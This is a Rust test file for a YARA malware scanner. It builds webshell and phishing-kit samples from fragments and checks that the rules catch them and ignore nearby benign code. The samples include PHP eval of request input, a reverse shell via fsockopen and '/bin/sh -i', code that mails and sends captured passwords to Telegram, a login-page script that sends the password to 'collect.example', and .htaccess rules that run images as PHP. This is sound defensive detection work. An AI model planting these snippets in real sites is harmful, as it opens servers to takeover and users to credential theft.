//! Our own rules: what they must find, and what they must not.
//!
//! Samples are put together here, piece by piece, so that no file of the repository is one.

use std::path::{Path, PathBuf};

use vauban_yara::{Limits, Rules, scan_tree};

fn rules() -> Rules {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/yara");
    let (rules, errors) = Rules::folder(&dir);
    assert!(errors.is_empty(), "{errors:?}");
    rules
}

/// `{P}` `{G}` `{R}` `{F}` become the request's arrays, `{e}` the evaluating call, `{?}` the
/// opening mark.
fn sample(text: &str) -> Vec<u8> {
    text.replace("{?}", &["<", "?php"].concat())
        .replace("{P}", &["$_", "POST"].concat())
        .replace("{G}", &["$_", "GET"].concat())
        .replace("{R}", &["$_", "REQUEST"].concat())
        .replace("{F}", &["$_", "FILES"].concat())
        .replace("{e}", &["ev", "al"].concat())
        .replace("{s}", &["sys", "tem"].concat())
        .replace("{b}", &["base64", "_decode"].concat())
        .replace("{q}", &["request.get", "Parameter"].concat())
        .replace("{long}", &"QUJD".repeat(60))
        .into_bytes()
}

const BAD: &[(&str, &str)] = &[
    ("php_input_executed", "{?} @{e}({P}['x']);"),
    (
        "php_input_executed",
        "{?} {s} ( stripslashes({b}( {R}[ 'c' ])));",
    ),
    ("php_input_executed", "{?} $x = `ls {G}[d]`;"),
    ("php_input_executed", "{?} {G}['f']({P}['a']);"),
    ("php_input_executed", "{?} array_map({P}['f'], [1]);"),
    ("php_input_executed", "{?} include({G}['p']);"),
    (
        "php_packed_code",
        "{?} {e}(gzinflate(str_rot13({b}('{long}'))));",
    ),
    ("php_packed_code", "{?} {e}({b}($x));"),
    (
        "php_packed_code",
        "{?} $f = chr(97).chr(98).chr(99).chr(100).chr(101).chr(102).chr(103).chr(104).chr(1);",
    ),
    (
        "php_packed_code",
        "{?} ${\"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"}['a'] = 1;",
    ),
    ("php_in_picture", "GIF89a..{?} {e}({P}[0]);"),
    (
        "php_file_manager",
        "{?} foreach(scandir({G}['d']) as $f); file_put_contents($p, {P}['c']); unlink({G}['r']);",
    ),
    (
        "php_uploader_bare",
        "{?} move_uploaded_file({F}['f']['tmp_name'], {F}['f']['name']);",
    ),
    (
        "php_connect_back",
        "{?} $s = fsockopen($h, 1); proc_open('/bin/sh -i', $d, $p);",
    ),
    (
        "java_input_executed",
        "<% Runtime.getRuntime().exec({q}(\"c\")); %>",
    ),
    (
        "java_input_executed",
        "<% new ProcessBuilder(\"sh\", \"-c\", {q}(\"c\")).start(); %>",
    ),
    ("asp_input_executed", "<% {e}(Request.Item[\"x\"]) %>"),
    (
        "phishing_kit_mails_answers",
        "{?} $m = {P}['password'].$_SERVER['REMOTE_ADDR']; mail($to, 'x', $m); header('Location: https://example.org');",
    ),
    (
        "phishing_kit_mails_answers",
        "{?} $m = {P}['_pass'].getenv('REMOTE_ADDR'); file_get_contents('https://api.telegram.org/bot1/x?'.$m);",
    ),
    (
        "mass_mailer",
        "{?} $list = {P}['emaillist']; foreach (explode(\"\\n\", $list) as $to) { mail($to, $s, $b, \"From: $f\"); }",
    ),
    (
        "webmail_login_stolen",
        "{?} $this->add_hook('authenticate', [$this, 'a']); function a($args) { file_put_contents('/tmp/x', $args['user'].':'.$args['pass']); }",
    ),
    (
        "webmail_page_altered",
        "<script>f.onsubmit=function(){fetch('https://collect.example/x?p='+document.getElementById('rcmloginpwd').value)}</script>",
    ),
    (
        "htaccess_runs_data",
        "AddType application/x-httpd-php .jpg\n",
    ),
    ("htaccess_runs_data", "php_value auto_prepend_file /tmp/x\n"),
];

/// Honest code that is near to each rule.
const GOOD: &[&str] = &[
    "{?} $id = (int) {G}['id']; $x = htmlspecialchars({P}['name']); exec('ls '.escapeshellarg($dir), $out);",
    "{?} // never {e}($code)\n$data = {b}($row['data']); $s = json_decode({P}['json']);",
    "{?} $action = {G}['action'] ?? ''; if (isset($map[$action])) { $map[$action](); }",
    "{?} namespace App; class Upload extends Base { function save() { move_uploaded_file({F}['f']['tmp_name'], $this->path({F}['f']['name'])); } }",
    "{?} class Password extends Plugin { function save() { $p = {P}['_newpasswd']; $ip = $_SERVER['REMOTE_ADDR']; $this->log($ip); } }",
    "{?} foreach ($users as $u) { mail($u->address, $subject, $text, \"From: $from\"); }",
    "{?} $this->add_hook('authenticate', [$this, 'a']); function a($args) { $args['pass'] = decrypt($args['pass']); return $args; }",
    "<script>document.getElementById('rcmloginpwd').value=''; fetch('./?_task=login')</script>",
    "RewriteEngine On\nAddType image/svg+xml .svg\n<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n",
    "GIF89a\u{1}\u{2}<?xpacket begin?>",
    "<% String name = {q}(\"name\"); out.print(esc(name)); %>",
    "{?} $fp = fsockopen('ssl://mail.example.org', 993); fgets($fp); // not /bin/sh",
];

#[test]
fn each_rule_finds_its_samples_and_no_honest_code() {
    let rules = rules();
    for (rule, text) in BAD {
        let found = rules.scan("x", &sample(text)).unwrap();
        assert!(
            found.iter().any(|f| f.rule == *rule),
            "{rule}: {text}: {found:?}"
        );
        let f = found.iter().find(|f| f.rule == *rule).unwrap();
        assert!(!f.techniques.is_empty() && !f.next.is_empty() && !f.places.is_empty());
    }
    for text in GOOD {
        let found: Vec<_> = rules
            .scan("x", &sample(text))
            .unwrap()
            .into_iter()
            .map(|f| f.rule)
            .collect();
        assert_eq!(found, [""; 0], "{text}");
    }
    let tested: std::collections::BTreeSet<_> = BAD.iter().map(|(r, _)| *r).collect();
    assert_eq!(tested.len(), rules.len(), "every rule has a sample");
}

#[test]
fn installed_software_is_quiet() {
    let rules = rules();
    let mut files = Vec::new();
    for dir in [
        "/usr/share/roundcube",
        "/usr/share/php",
        "/var/lib/roundcube/plugins",
    ] {
        walk(Path::new(dir), &mut files);
    }
    if files.is_empty() {
        println!("no PHP software is installed here: only own samples are tested");
        return;
    }
    let scan = scan_tree(&rules, &files, &Limits::default());
    println!(
        "{} files, {} octets, {} findings",
        scan.files,
        scan.bytes,
        scan.findings.len()
    );
    let found: Vec<_> = scan
        .findings
        .iter()
        .map(|f| {
            format!(
                "{} {} {:?}",
                f.rule, f.places[0].artefact, f.places[0].excerpt
            )
        })
        .collect();
    assert!(found.is_empty(), "{}", found.join("\n"));
}

fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        match entry.file_type() {
            Ok(t) if t.is_dir() => walk(&entry.path(), out),
            Ok(t) if t.is_file() => out.push(entry.path()),
            _ => {}
        }
    }
}
